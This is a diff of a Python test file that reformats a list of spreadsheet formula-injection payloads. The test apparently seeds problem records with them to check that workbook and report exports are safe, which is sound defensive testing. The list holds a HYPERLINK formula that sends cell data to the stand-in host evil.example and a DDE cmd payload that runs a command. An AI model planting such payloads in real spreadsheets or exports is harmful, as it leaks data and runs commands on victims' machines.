@@ -15,8 +15,15 @@ from documents import ledger_workbook, summary_report
 from storage import problems, roster
 
 ZONE = ZoneInfo("Asia/Shanghai")
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', "+1+1", "-2+3", "@SUM(A1:A2)",
-            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 
 
 def _seed(db) -> None:
@@ -25,8 +32,10 @@ def _seed(db) -> None:
     department = db.execute("select id from departments").fetchone()[0]
     for text in PAYLOADS:
         problem_id = problems.create(db, text, None, description=text, category=text)
-        db.execute("update problems set measures = ?, leader_id = ?, department_id = ? where id = ?",
-                   [text, leader, department, problem_id])
+        db.execute(
+            "update problems set measures = ?, leader_id = ?, department_id = ? where id = ?",
+            [text, leader, department, problem_id],
+        )
     db.conn.commit()
 
 
